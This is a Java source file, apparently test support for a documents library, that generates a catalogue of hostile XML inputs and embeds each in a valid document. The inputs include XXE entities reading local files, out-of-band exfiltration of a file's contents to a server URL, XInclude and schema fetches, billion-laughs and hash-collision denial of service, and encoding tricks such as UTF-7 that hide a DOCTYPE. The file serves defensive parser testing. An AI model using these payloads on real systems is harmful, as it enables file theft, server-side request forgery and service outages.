package io.github.gongkai.documents;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * XML that wants to read other files, to call home, to grow without end or to pass for something else: each is put into a
 * sound part of a document, before its root, among the root's attributes or as its first content.
 *
 * @param name what it tries
 * @param prolog what stands before the root
 * @param attributes what is added to the root
 * @param inside what comes first in the root
 * @param bytes how the text is written down
 */
record HostileXml(String name, String prolog, String attributes, String inside, Function<String, byte[]> bytes) {

    private static final String DECLARATION = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
    private static final Pattern ROOT = Pattern.compile("<([A-Za-z_][^\\s/>]*)([^>]*?)(/?)>");

    /** A long text that cannot be packed tightly, so that it is not refused for that before it is parsed. */
    private static final String LONG = new Random(1)
            .ints(100_000, '一', '龥')
            .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
            .toString();

    /** Whether it declares a document type in a way that any parser sees. */
    boolean hasDocumentType() {
        return prolog.contains("<!DOCTYPE");
    }

    /** A sound part with this in it. */
    byte[] in(byte[] part) {
        String sound = new String(part, StandardCharsets.UTF_8).replaceFirst("^\uFEFF?<\\?xml.*?\\?>\\s*", "");
        Matcher root = ROOT.matcher(sound);
        if (!root.find()) {
            throw new IllegalArgumentException(sound);
        }
        String open = "<" + root.group(1) + root.group(2) + attributes + ">" + inside;
        String rest = root.group(3).isEmpty() ? sound.substring(root.end()) : "</" + root.group(1) + ">";
        return bytes.apply(prolog.replace("ROOT", root.group(1)) + open + rest);
    }

    /** @param canary the address of a file that nobody may read, {@code url} that of a server that nobody may call */
    static List<HostileXml> all(String canary, String url) {
        List<HostileXml> all = new ArrayList<>();
        fetching(all, canary, url);
        hinting(all, canary, url);
        growing(all);
        disguised(all, canary, url);
        return all;
    }

    private static void fetching(List<HostileXml> all, String canary, String url) {
        type(all, "a file as an entity", "<!ENTITY x SYSTEM \"" + canary + "\">", "&x;");
        type(all, "a page as an entity", "<!ENTITY x SYSTEM \"" + url + "entity\">", "&x;");
        type(all, "a public entity", "<!ENTITY x PUBLIC \"-//a//b\" \"" + url + "public\">", "&x;");
        type(all, "an entity that nobody uses", "<!ENTITY x SYSTEM \"" + url + "unused\">", "");
        type(all, "an entity through another", "<!ENTITY y SYSTEM \"" + canary + "\"><!ENTITY x \"a&y;b\">", "&x;");
        type(all, "an entity in a jar", "<!ENTITY x SYSTEM \"jar:" + url + "a.jar!/b\">", "&x;");
        type(all, "an entity by FTP", "<!ENTITY x SYSTEM \"" + url.replace("http:", "ftp:") + "a\">", "&x;");
        type(all, "an entity by netdoc", "<!ENTITY x SYSTEM \"" + canary.replace("file:", "netdoc:") + "\">", "&x;");
        type(all, "an entity of a share", "<!ENTITY x SYSTEM \"file://127.0.0.1/share/a\">", "&x;");
        type(all, "an entity of the system", "<!ENTITY x SYSTEM \"file:///etc/hostname\">", "&x;");
        type(all, "a parameter entity", "<!ENTITY % p SYSTEM \"" + url + "parameter\"> %p;", "");
        type(all, "a file as a parameter entity", "<!ENTITY % p SYSTEM \"" + canary + "\"> %p;", "");
        type(
                all,
                "a file sent home",
                "<!ENTITY % f SYSTEM \"" + canary + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '" + url
                        + "?%f;'>\"> %e; %s;",
                "");
        type(
                all,
                "a file in an error",
                "<!ENTITY % f SYSTEM \"" + canary
                        + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'file:///none/%f;'>\"> %e; %s;",
                "");
        type(
                all,
                "an entity declared by an entity",
                "<!ENTITY % d \"<!ENTITY x SYSTEM '" + canary + "'>\"> %d;",
                "&x;");
        type(
                all,
                "what is not parsed",
                "<!NOTATION n SYSTEM \"" + url + "notation\"><!ENTITY x SYSTEM \"" + url + "picture\" NDATA n>",
                "");
        type(
                all,
                "an attribute by default",
                "<!ATTLIST ROOT a CDATA \"&y;\"><!ENTITY y SYSTEM \"" + canary + "\">",
                "");
        prolog(all, "a document type elsewhere", "<!DOCTYPE ROOT SYSTEM \"" + url + "type.dtd\">", "");
        prolog(all, "a document type in a file", "<!DOCTYPE ROOT SYSTEM \"" + canary + "\">", "");
        prolog(all, "a public document type", "<!DOCTYPE ROOT PUBLIC \"-//a//b\" \"" + url + "public.dtd\">", "");
        prolog(
                all,
                "a document type elsewhere and here",
                "<!DOCTYPE ROOT SYSTEM \"" + url + "both.dtd\" [<!ENTITY x \"文\">]>",
                "&x;");
        prolog(all, "a document type that says nothing", "<!DOCTYPE ROOT>", "");
        prolog(
                all,
                "a document type behind a comment",
                "<!-- a -->\n<?b c?>\n<!DOCTYPE ROOT [<!ENTITY x SYSTEM \"" + canary + "\">]>",
                "&x;");
        all.add(new HostileXml(
                "a document type that claims to stand alone",
                "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE ROOT SYSTEM \"" + url + "alone.dtd\">",
                "",
                "",
                HostileXml::utf8));
        all.add(new HostileXml(
                "XML 1.1",
                "<?xml version=\"1.1\"?><!DOCTYPE ROOT [<!ENTITY x SYSTEM \"" + canary + "\">]>",
                "",
                "&x;",
                HostileXml::utf8));
    }

    private static void hinting(List<HostileXml> all, String canary, String url) {
        String include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" ";
        inside(all, "XInclude of a page", include + "href=\"" + url + "include\"/>");
        inside(all, "XInclude of a file", include + "href=\"" + canary + "\" parse=\"text\"/>");
        inside(
                all,
                "XInclude as a way out",
                include + "href=\"" + url + "none\"><xi:fallback>" + include + "href=\"" + canary
                        + "\" parse=\"text\"/></xi:fallback></xi:include>");
        String schema = " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:";
        root(all, "a schema", schema + "schemaLocation=\"" + url + "ns " + url + "schema.xsd\"");
        root(all, "a schema without a name space", schema + "noNamespaceSchemaLocation=\"" + url + "schema.xsd\"");
        root(all, "a base", " xml:base=\"" + url + "\"");
        root(all, "a name space elsewhere", " xmlns:n=\"" + url + "ns\"");
        prolog(all, "a style sheet", "<?xml-stylesheet type=\"text/xsl\" href=\"" + url + "a.xsl\"?>", "");
        prolog(all, "a model", "<?xml-model href=\"" + url + "a.rng\"?>", "");
        prolog(all, "a catalogue", "<?oasis-xml-catalog catalog=\"" + url + "catalog.xml\"?>", "");
    }

    private static void growing(List<HostileXml> all) {
        String doubling = IntStream.range(0, 40)
                .mapToObj(i -> "<!ENTITY l" + (i + 1) + " \"&l" + i + ";&l" + i + ";\">")
                .collect(Collectors.joining());
        type(all, "a billion laughs", "<!ENTITY l0 \"ha\">" + doubling, "&l40;");
        type(all, "laughs nobody asks for", "<!ENTITY l0 \"ha\">" + doubling, "");
        type(
                all,
                "laughs of parameters",
                "<!ENTITY % l0 \"<!-- ha -->\">"
                        + IntStream.range(0, 40)
                                .mapToObj(i -> "<!ENTITY % l" + (i + 1) + " \"&#37;l" + i + ";&#37;l" + i + ";\">")
                                .collect(Collectors.joining())
                        + "%l40;",
                "");
        type(all, "one long entity many times", "<!ENTITY x \"" + "长".repeat(10_000) + "\">", "&x;".repeat(10_000));
        type(all, "an entity in itself", "<!ENTITY x \"&x;\">", "&x;");
        type(all, "two entities in each other", "<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">", "&x;");
        type(all, "many entities", many(5_000, i -> "<!ENTITY e" + i + " \"\">"), "");
        root(all, "many attributes", many(5_000, i -> " a" + i + "=\"\""));
        root(all, "many name spaces", many(5_000, i -> " xmlns:n" + i + "=\"u\""));
        root(all, "names of one hash", many(2_000, i -> " " + sameHash(i) + "=\"\""));
        root(all, "a long value", " a=\"" + LONG + "\"");
        inside(all, "a long name", "<" + "n" + LONG + "/>");
        inside(all, "a deep place", "<a>".repeat(5_000) + "</a>".repeat(5_000));
        inside(all, "an open depth", "<a>".repeat(5_000));
        inside(all, "many comments", many(10_000, i -> "<!--" + i * 7919L % 10_007 + "-->"));
        inside(all, "a long instruction", "<?p " + LONG + "?>");
        inside(all, "a long text", "<![CDATA[" + LONG + "]]".repeat(10_000) + "]]>");
    }

    private static void disguised(List<HostileXml> all, String canary, String url) {
        String type = "<!DOCTYPE ROOT [<!ENTITY x SYSTEM \"" + canary + "\"><!ENTITY y SYSTEM \"" + url + "coded\">]>";
        coded(all, "UTF-16 with a mark", "UTF-16", type, text -> text.getBytes(StandardCharsets.UTF_16));
        coded(all, "UTF-16LE", "UTF-16LE", type, text -> text.getBytes(StandardCharsets.UTF_16LE));
        coded(all, "UTF-16BE", "UTF-16BE", type, text -> text.getBytes(StandardCharsets.UTF_16BE));
        coded(all, "UTF-32", "UTF-32", type, text -> text.getBytes(Charset.forName("UTF-32BE-BOM")));
        coded(all, "UTF-32LE", "UTF-32LE", type, text -> text.getBytes(Charset.forName("UTF-32LE")));
        coded(all, "EBCDIC", "IBM037", type, text -> text.getBytes(Charset.forName("IBM037")));
        coded(all, "EBCDIC with the euro", "IBM1140", type, text -> text.getBytes(Charset.forName("IBM1140")));
        coded(all, "GB18030", "GB18030", type, text -> text.getBytes(Charset.forName("GB18030")));
        coded(all, "Latin-1", "ISO-8859-1", type, text -> text.getBytes(StandardCharsets.ISO_8859_1));
        coded(all, "UTF-8 with a mark", "UTF-8", type, text -> utf8("\uFEFF" + text));
        coded(all, "UTF-16 that is UTF-8", "UTF-16", type, HostileXml::utf8);
        coded(all, "UTF-8 that is UTF-16", "UTF-8", type, text -> text.getBytes(StandardCharsets.UTF_16LE));
        coded(all, "a charset that nobody knows", "x-none", type, HostileXml::utf8);
        coded(all, "a charset that is a path", "../../" + canary, type, HostileXml::utf8);
        // as bytes no document type at all; as UTF-7 one
        all.add(new HostileXml(
                "UTF-7",
                "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE ROOT +AFsAPAAh-ENTITY x SYSTEM +ACI-"
                        + canary + "+ACIAPgBdAD4-",
                "",
                "&x;",
                HostileXml::utf8));
        all.add(new HostileXml("two declarations", DECLARATION + DECLARATION, "", "", HostileXml::utf8));
        all.add(new HostileXml(
                "a document type in small letters",
                "<!doctype ROOT [<!ENTITY x \"文\">]>",
                "",
                "&x;",
                HostileXml::utf8));
        inside(all, "a document type inside", "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + canary + "\">]>&x;");
        inside(all, "half a pair", "&#xD800;");
        inside(all, "a character that is none", "&#xFFFFFFFF;");
        inside(all, "bytes that are none", "\u0000\uFFFF");
    }

    private static void type(List<HostileXml> all, String name, String declarations, String inside) {
        prolog(all, name, "<!DOCTYPE ROOT [" + declarations + "]>", inside);
    }

    private static void prolog(List<HostileXml> all, String name, String prolog, String inside) {
        all.add(new HostileXml(name, DECLARATION + prolog, "", inside, HostileXml::utf8));
    }

    private static void root(List<HostileXml> all, String name, String attributes) {
        all.add(new HostileXml(name, DECLARATION, attributes, "", HostileXml::utf8));
    }

    private static void inside(List<HostileXml> all, String name, String inside) {
        all.add(new HostileXml(name, DECLARATION, "", inside, HostileXml::utf8));
    }

    private static void coded(
            List<HostileXml> all, String name, String declared, String type, Function<String, byte[]> bytes) {
        all.add(new HostileXml(
                name, "<?xml version=\"1.0\" encoding=\"" + declared + "\"?>" + type, "", "&x;&y;", bytes));
    }

    private static String many(int number, java.util.function.IntFunction<String> one) {
        return IntStream.range(0, number).mapToObj(one).collect(Collectors.joining());
    }

    /** "Aa" and "BB" have one hash in Java, and so has whatever is put together of them. */
    private static String sameHash(int number) {
        StringBuilder name = new StringBuilder();
        for (int bit = 0; bit < 11; bit++) {
            name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
        }
        return name.toString();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
